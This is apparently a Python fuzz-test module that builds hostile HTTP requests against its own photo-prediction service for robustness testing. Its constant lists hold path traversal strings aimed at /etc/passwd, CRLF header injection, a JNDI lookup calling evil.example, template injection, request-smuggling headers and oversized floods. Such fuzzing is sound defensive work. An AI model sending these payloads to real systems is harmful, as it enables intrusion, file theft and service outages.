"""Hostile requests to the service, one for each seed: the bytes that an attacker sends over a connection."""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from fuzz_exif import mutated_photo
from hostile_photos import FORMATS, bomb, changed, mutated, picture, polyglot

PATHS: Final = (
    "/",
    "/health",
    "/version",
    "/card",
    "/metrics",
    "/predict",
    "/openapi.json",
    "/docs",
    "/predict/",
    "//health",
    "/../../../../etc/passwd",
    "/..%2f..%2f..%2fetc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/card/../../etc/passwd",
    "/static/..%5c..%5cwindows/win.ini",
    "/%00",
    "/predict%00.jpg",
    "/health%0d%0aSet-Cookie:%20a=b",
    "/%ff%fe",
    "/%",
    "/%zz",
    "*",
    "http://evil.example/health",
    "http://evil.example@127.0.0.1/",
    "evil.example:443",
    "/;/",
    "/?",
    "/#",
    "/" + "a/" * 9000,
    "/" + "a" * 70_000,
    "/health?" + "x=1&" * 5000,
    "/{{7*7}}",
    "/${jndi:ldap://evil.example/}",
)
METHODS: Final = (
    "GET",
    "HEAD",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "get",
    "PRI",
    "PROPFIND",
    "X" * 200,
    "G\x00T",
    "",
    "POST POST",
    "M-SEARCH",
)
HEADERS: Final = (
    "Host: evil.example",
    "Host: a\r\nHost: b",
    "Host:",
    "X-Forwarded-For: 127.0.0.1",
    "X-Original-URL: /card",
    "Transfer-Encoding: chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding : chunked",
    "Expect: 100-continue",
    "Upgrade: websocket\r\nConnection: Upgrade",
    "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings",
    "Content-Encoding: gzip",
    "Content-Length: 0",
    "Content-Length: -1",
    "Content-Length: 1e9",
    "Content-Length: +5",
    "Content-Length: 99999999999999999999",
    "Content-Length: 5\r\nContent-Length: 6",
    "Range: bytes=0-,0-,0-,0-",
    "Cookie: " + "a" * 9000,
    "Accept-Encoding: " + "gzip," * 900,
    "X-Nul: \x00",
    "X-High: \xff\xfe",
    " X-Folded: a",
    "X-Empty",
    ": nameless",
    "If-None-Match: *",
    "Authorization: Basic " + "A" * 5000,
    "Keep-Alive: timeout=99999",
    "Content-Type: multipart/form-data",
    "Content-Type: multipart/form-data; boundary=" + "b" * 5000,
    "Content-Type: multipart/form-data; boundary=b; charset=utf-32",
    'Content-Type: multipart/form-data; boundary=""',
    "Content-Type: application/json",
)
_HEAD: Final = (
    b"POST /predict HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: multipart/form-data; boundary=b\r\n"
)


@dataclass(frozen=True)
class Hostile:
    """A request: `kind` in a word, the bytes, and whether these are a whole request, which must get an answer."""

    kind: str
    content: bytes
    is_whole: bool = False


def hostile_request(seed: int) -> Hostile:
    """The request of a seed: the same bytes on every run."""
    chance = random.Random(seed)
    return KINDS[seed % len(KINDS)](chance)


def _form(photo: bytes, part: bytes = b'Content-Disposition: form-data; name="file"; filename="a.jpg"') -> bytes:
    return b"--b\r\n" + part + b"\r\n\r\n" + photo + b"\r\n--b--\r\n"


def _post(body: bytes, head: bytes = _HEAD) -> bytes:
    return head + b"Content-Length: %d\r\n\r\n" % len(body) + body


def _mutated_form(chance: random.Random) -> Hostile:
    return Hostile("form", _post(changed(_form(picture("JPEG")), chance)), is_whole=True)


def _mutated_head(chance: random.Random) -> Hostile:
    body = _form(picture("JPEG"))
    head = _HEAD + b"Content-Length: %d\r\n\r\n" % len(body)
    return Hostile("head", changed(head, chance, 4) + body)


def _odd_form(chance: random.Random) -> Hostile:
    names = ('"file"', '"file\x00"', '"../file"', "file", '"file"; name="other"', '"fi\'le"', '"\xc3\xbc"', '""')
    files = ('"../../../../etc/passwd"', '"a\x00.jpg"', '"<script>"', '"C:\\\\con"', f'"{"a" * 5000}"', "a;b", '"%s%n"')
    more = (
        "",
        "\r\nContent-Type: text/html",
        "\r\nContent-Transfer-Encoding: base64",
        "\r\nContent-Type: multipart/mixed; boundary=b",
        "\r\n" + "X: y\r\n" * 900 + "Z: 1",
    )
    name, filename = chance.choice(names), chance.choice(files)
    part = f"Content-Disposition: form-data; name={name}; filename={filename}{chance.choice(more)}"
    body = _form(picture(chance.choice(FORMATS)), part.encode("latin-1"))
    body = body.replace(b"--b--\r\n", chance.choice((b"--b--\r\n", b"", b"--b--" + b"x" * 999, b"--b\r\n" * 99)))
    return Hostile("part", _post(body), is_whole=True)


def _wrong_length(chance: random.Random) -> Hostile:
    body = _form(picture("PNG"))
    told = chance.choice((0, 1, len(body) - 1, len(body) + 1, len(body) * 2, 10**6, 25 * 2**20, 10**12, 10**30))
    return Hostile("length", _HEAD + b"Content-Length: %d\r\n\r\n" % told + body[: chance.choice((0, 10, len(body)))])


def _chunked(chance: random.Random) -> Hostile:
    body = _form(picture("PNG"))
    size = chance.choice(
        (
            b"%x" % len(body),
            b"0",
            b"-1",
            b"f" * 20,
            b"0x10",
            b" 5",
            b"%x;a=b" % len(body),
            b"zz",
            b"",
            b"%X;" % len(body) + b"e" * 9000,
        )
    )
    end = chance.choice(
        (
            b"\r\n0\r\n\r\n",
            b"0\r\n\r\n",
            b"\r\n0\r\nTrailer: x\r\n\r\n",
            b"\r\n0\r\n" + b"T: x\r\n" * 9000,
            b"\n0\n\n",
            b"",
        )
    )
    length = chance.choice((b"", b"Content-Length: 5\r\n"))
    return Hostile("chunks", _HEAD + length + b"Transfer-Encoding: chunked\r\n\r\n" + size + b"\r\n" + body + end)


def _many_chunks(chance: random.Random) -> Hostile:
    body = _form(picture("GIF"))
    pieces = b"".join(b"1\r\n%c\r\n" % byte for byte in body[: chance.randrange(len(body))])
    return Hostile("small chunks", _HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + pieces + b"0\r\n\r\n", is_whole=True)


def _header_flood(chance: random.Random) -> Hostile:
    lines = "".join(f"{line}\r\n" for line in chance.choices(HEADERS, k=chance.choice((1, 3, 9))))
    flood = chance.choice(
        ("", "X: y\r\n" * 3000, f"X: {'y' * 70_000}\r\n", "".join(f"X{i}: y\r\n" for i in range(900)))
    )
    method = chance.choice(("GET /health", "POST /predict", "GET /metrics"))
    return Hostile("headers", f"{method} HTTP/1.1\r\n{lines}{flood}Connection: close\r\n\r\n".encode("latin-1"))


def _path(chance: random.Random) -> Hostile:
    path, method = chance.choice(PATHS), chance.choice(METHODS[:8])
    return Hostile("path", f"{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode("latin-1"))


def _method(chance: random.Random) -> Hostile:
    version = chance.choice(("HTTP/1.1", "HTTP/1.0", "HTTP/0.9", "HTTP/2.0", "HTTP/9", "", "SIP/2.0", "\x00"))
    line = f"{chance.choice(METHODS)} {chance.choice(PATHS[:10])} {version}"
    return Hostile("method", f"{line}\r\nHost: x\r\nConnection: close\r\n\r\n".encode("latin-1"))


def _query(chance: random.Random) -> Hostile:
    query = chance.choice(
        (
            "format=json",
            "format=png&format=json",
            "format=",
            "format=%00",
            "format[]=png",
            "format=PNG",
            "format=" + "x" * 9000,
            "%",
            "a=b&" * 9000,
            "format=json%0d%0aX:1",
        )
    )
    head = _HEAD.replace(b"/predict", f"/predict?{query}".encode())
    return Hostile("query", _post(_form(picture("WEBP")), head), is_whole=len(query) < 40_000)


def _pipelined(chance: random.Random) -> Hostile:
    first = chance.choice(
        (
            b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n",
            b"HEAD / HTTP/1.1\r\nHost: x\r\n\r\n",
            b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n\r\nGET ",
        )
    )
    return Hostile("pipeline", first * chance.choice((1, 2, 50)) + _post(_form(picture("BMP"))), is_whole=True)


def _metadata(chance: random.Random) -> Hostile:
    return Hostile("metadata", _post(_form(mutated_photo(chance.randrange(4000)).content)), is_whole=True)


def _photo(kind: str, make: Callable[[random.Random], bytes]) -> Callable[[random.Random], Hostile]:
    return lambda chance: Hostile(kind, _post(_form(make(chance))), is_whole=True)


KINDS: Final = (
    _mutated_form,
    _mutated_head,
    _odd_form,
    _wrong_length,
    _chunked,
    _many_chunks,
    _header_flood,
    _path,
    _method,
    _query,
    _pipelined,
    _metadata,
    _photo("photo", mutated),
    _photo("polyglot", polyglot),
    _photo("bomb", bomb),
)
